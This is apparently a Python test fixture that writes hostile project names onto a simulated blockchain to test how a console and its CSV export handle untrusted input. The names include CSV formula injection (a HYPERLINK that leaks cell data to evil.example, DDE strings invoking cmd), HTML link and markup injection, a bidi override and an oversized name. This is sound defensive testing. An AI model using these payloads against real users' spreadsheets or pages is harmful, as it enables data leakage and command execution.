"""Hostile names put on chain the real way: the Registry's ``updateProfileName``, sent by each profile's owner.

A project's name is whatever its owner wrote on chain (Allo's Registry takes
any string), so the console and the CSV writers must treat it as user input.
:func:`rename_on_chain` renames profiles of the console's simulated round, then
the round is indexed again; the names below reach every page, chart and CSV as
they would from a real chain.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from qf_sentinel.qf.chain.abi import load_artifact
from qf_sentinel.qf.chain.tx import TxRequest, TxSender, wait_for_receipts
from qf_sentinel.qf.sim.dvmdt import profile_id
from qf_sentinel.qf.sim.plan import RecipientStatus, RoundPlan
from qf_sentinel.qf.sim.wallets import address_of
from tests.fixtures.chain import Chain

#: Spreadsheet formulas (OWASP's CSV injection examples), with ESC, BEL and CR in the last.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0\x1b[2J\x07\rover",
)
#: Markup Plotly would render as a link, a giant span, bold and italics.
LINK_NAME = '<a href="http://evil.example/">click me</a>'
MARKUP_NAME = '<span style="font-size:300px">HUGE</span><b>bold</b><i>italic</i>'
#: An unterminated RIGHT-TO-LEFT OVERRIDE: without isolation, what follows it on the page reads backwards.
BIDI_NAME = "Reversed \u202eproject"
#: 100,000 characters.
LONG_NAME = "Long name " * 10_000
PROJECT_NAMES = (*FORMULA_NAMES, LINK_NAME, MARKUP_NAME, BIDI_NAME, LONG_NAME)
#: The round operator's profile (the rounds page's owner column and a round page's header).
OWNER_NAME = "Operator \u202eunterminated"


@dataclass(frozen=True)
class Renamed:
    #: project name -> its recipient id (0x hex), for the projects renamed
    projects: dict[str, str]
    owner: str


def rename_on_chain(chain: Chain, plan: RoundPlan, anchors: dict[str, str], pool: int = 0) -> Renamed:
    """Give the accepted projects of ``pool`` the hostile names (one each), and the round operator OWNER_NAME.

    ``anchors`` maps a project's plan name to its recipient id (the anchor it registered with).
    """
    registry = load_artifact("Registry")
    accepted = [(i, p) for i, p in enumerate(plan.projects) if p.pool == pool and p.status is RecipientStatus.ACCEPTED]
    assert len(accepted) >= len(PROJECT_NAMES), f"pool {pool} has only {len(accepted)} accepted projects"
    requests: list[TxRequest] = []
    renamed: dict[str, str] = {}
    for (i, project), name in zip(accepted, PROJECT_NAMES, strict=False):
        owner = plan.wallets[project.owner]
        call = registry.encode_call("updateProfileName", [profile_id(i + 1, owner.address), name])
        requests.append(TxRequest(owner.private_key, owner.address, chain.deployment.registry, call, 0,
                                  _gas_for(name)))  # fmt: skip
        renamed[name] = anchors[project.name]
    funder = address_of(chain.funder_key)
    call = registry.encode_call("updateProfileName", [profile_id(1, funder), OWNER_NAME])
    requests.append(TxRequest(chain.funder_key, funder, chain.deployment.registry, call, 0, _gas_for(OWNER_NAME)))
    _send(chain, requests)
    return Renamed(renamed, OWNER_NAME)


def _gas_for(name: str) -> int:
    # A new anchor contract, plus a storage slot per 32 bytes of name (100 kB: ~70M gas; the devnet's blocks hold 1G).
    return 2_000_000 + 25_000 * (len(name.encode()) // 32 + 1)


def _send(chain: Chain, requests: Sequence[TxRequest]) -> None:
    sender = TxSender(chain.rpc, int(chain.rpc.call("eth_chainId"), 16))
    hashes = sender.send(requests)
    chain.rpc.call("evm_mine")
    wait_for_receipts(chain.rpc, hashes)  # raises if one reverted
